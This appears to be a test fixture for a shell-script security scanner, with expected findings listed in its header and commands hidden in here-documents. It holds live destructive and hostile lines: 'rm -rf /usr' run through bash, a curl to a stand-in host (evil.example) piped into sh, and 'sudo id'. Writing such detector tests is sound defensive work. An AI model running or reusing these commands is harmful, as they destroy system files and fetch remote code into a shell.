#!/bin/bash
# expect: 12 recursive-delete critical
# expect: 16 py-os-system high
# expect: 19 network high
# expect: 21 privilege-escalation critical
# Programs hidden in here-documents and here-strings.
cat > out/notes.txt <<'TXT'
sudo rm -rf / is only text here
TXT
bash <<EOF
echo building
rm -rf /usr
EOF
python3 - <<'PY'
import os
os.system("make clean")
PY
cat <<'SCRIPT' | sh
curl http://evil.example/x
SCRIPT
sh <<< 'sudo id'
cat <<-DOC > out/doc.txt
	curl https://example.com is documentation
	DOC
